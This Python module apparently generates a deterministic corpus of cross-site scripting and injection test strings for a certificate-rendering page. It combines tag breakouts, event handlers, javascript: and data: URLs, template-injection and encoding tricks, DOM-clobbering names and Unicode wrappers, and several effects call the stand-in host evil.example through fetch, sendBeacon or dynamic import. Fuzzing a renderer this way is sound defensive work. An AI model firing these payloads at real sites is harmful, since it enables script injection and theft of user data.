"""Thousands of texts that would be script or a request if a page took them for more than text.

Rules:
1. Made from a grammar: an effect, in the form that starts it, behind what breaks out of its place.
2. The same texts in the same order each time; no two are the same.
3. Each may stand in a certificate: it has no control character and at most 1,000 code points.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

EFFECTS = (
    "pwned=1",
    "window.pwned=1",
    "self['pwned']=1",
    "top.pwned=1",
    "(0,eval)('pwned=1')",
    "setTimeout('pwned=1')",
    "Function('pwned=1')()",
    "fetch('//evil.example/f')",
    "new Image().src='//evil.example/i'",
    "navigator.sendBeacon('//evil.example/b')",
    "import('//evil.example/m.js')",
    "location='//evil.example/l'",
    "document.body.innerHTML=1",
    "localStorage.pwned=1",
)
BREAKOUTS = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</bdi></dd>",
    "</svg></math>",
    "<noscript><p title='</noscript>",
    '"}}</script>',
    "\\",
)
ELEMENTS = (
    ("img", "src=x onerror"),
    ("img", "srcset=x onerror"),
    ("svg", "onload"),
    ("svg><animate", "attributeName=x dur=1s onbegin"),
    ("svg><set", "onbegin"),
    ("svg><style", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("details open", "ontoggle"),
    ("video><source", "onerror"),
    ("video", "src=x onerror"),
    ("audio", "src=x onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button popovertarget=x", "onclick"),
    ("p popover id=x", "onbeforetoggle"),
    ("p style=animation:x", "onanimationstart"),
    ("a tabindex=1", "onfocusin"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("iframe", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("math><mtext><p", "onpointerover"),
    ("xss contenteditable", "onbeforeinput"),
)
QUOTES = ('="{}"', "='{}'", "={}", "=`{}`", "&#61;{}", "/={}")
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java&#115;cript:{}",
    "javascript&colon;{}",
    "java&Tab;script:{}",
    "javascript:%2561;{}",
    "&#x6A;avascript:{}",
    "javascript://a%0A{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={}>",
    "vbscript:{}",
    "//evil.example/{}",
    "https:evil.example/{}",
    "\\\\evil.example\\{}",
    "https://evil.example%2f@a.example/{}",
    "blob:https://evil.example/{}",
    "filesystem:https://evil.example/{}",
    "tel:1;{}",
    "mailto:a@b.example?bcc={}",
)
PLACES = (
    "{}",
    "<a href='{}'>x</a>",
    "<area href='{}'>",
    "<iframe src='{}'>",
    "<iframe srcdoc='<a href={}>'>",
    "<object data='{}'>",
    "<embed src='{}'>",
    "<form action='{}'><button autofocus>",
    "<input type=image formaction='{}' src=x>",
    "<link rel=stylesheet href='{}'>",
    "<link rel=prefetch href='{}'>",
    "<link rel=preconnect href='{}'>",
    "<link rel=modulepreload href='{}'>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<script src='{}'></script>",
    "<script type=module>import '{}'</script>",
    '<script type=importmap>{{"imports":{{"./rdfc.js":"{}"}}}}</script>',
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{}"]}}]}}</script>',
    "<svg><use href='{}'/></svg>",
    "<svg><image href='{}'/></svg>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>",
    "<svg><script href='{}'/></svg>",
    "<math href='{}'>x</math>",
    "<img src='{}'>",
    "<img srcset='{} 2x'>",
    "<video poster='{}'>",
    "<video><track default src='{}'></video>",
    "<style>@import '{}'</style>",
    "<p style=\"background:url('{}')\">",
    "url({})",
    "[x]({})",
    "![x]({})",
    "<{}>",
    "<img src='{}",
)
TEMPLATES = (
    "{{{{{}}}}}",
    "{{{{constructor.constructor(`{}`)()}}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "[[{}]]",
    "{{% {} %}}",
    "`${{{}}}`",
    "';{};'",
    '";{};"',
    "*/{};/*",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript>{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{}",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<ſcript>{}</ſcript>",
    "‹script›{}",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<scr<script>ipt>{}</script>",
    "<script/x>{}</script>",
    "<script>{}//",
    "<p ng-app>{{{{$eval.constructor('{}')()}}}}</p>",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<svg><![CDATA[<script>{}</script>]]></svg>",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<?xml-stylesheet href='javascript:{}'?>",
)
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
    "then",
    "toJSON",
    "length",
    "{body}",
    "{name}",
    "{host}",
    "{base}{origin}",
    "{__proto__}",
    "{constructor}",
    "%CONFIG%",
    "%PARTS%",
    "$&$`$'$1",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "<form id=certpress-config><input name=textContent></form>",
    "<a id=result></a><a id=result name=replaceChildren></a>",
    "<img name=getElementById>",
    "<form name=body><input name=firstChild>",
    "<p id=progress class=problem>valid</p>",
    "<main data-outcome=valid>",
)
WRAPS = (
    "{}",
    "\u202e{}\u202c",
    "\u2066{}",
    "{}\u2069\u2069\u2069",
    "\u200f{}\u061c",
    "\ufeff{}\u200b",
    "\u00ad{}\u034f",
    "{}\u0301\u0301\u0301",
    "\U000e0001{}\U000e007f",
    "محمد{}",
    "{}\U0001f3f3\ufe0f\u200d\U0001f308",
    "\u2028{}\u2029",
)


def payloads() -> tuple[str, ...]:
    """All texts of the grammar, mixed."""
    found = sorted({text for text in _made() if len(text) <= 1000})
    random.Random(17024).shuffle(found)
    return tuple(found)


def _made() -> Iterator[str]:
    effects = itertools.cycle(EFFECTS)
    breakouts = itertools.cycle(BREAKOUTS)
    wraps = itertools.cycle(WRAPS)
    for (tag, event), quote, breakout in itertools.product(ELEMENTS, QUOTES, BREAKOUTS[:8]):
        yield f"{breakout}<{tag} {event}{quote.format(next(effects))}>"
    for place, address in itertools.product(PLACES, ADDRESSES):
        yield next(breakouts) + place.format(address.format(next(effects)))
    for template, effect in itertools.product(TEMPLATES, EFFECTS):
        yield next(breakouts) + template.format(effect)
    for name, wrap in itertools.product(NAMES, WRAPS):
        yield wrap.replace("{}", name)
    for breakout, effect in itertools.product(BREAKOUTS, EFFECTS):
        yield next(wraps).replace("{}", f"{breakout}<script>{effect}</script>")
    for wrap, (tag, event) in itertools.product(WRAPS, ELEMENTS):
        yield wrap.replace("{}", f"<{tag} {event}={next(effects)}>")
    yield from ("<" * 1000, "&" * 1000, "\u202e" * 1000, "<p>" * 333, "🂡" * 1000, "ﷺ" * 1000)
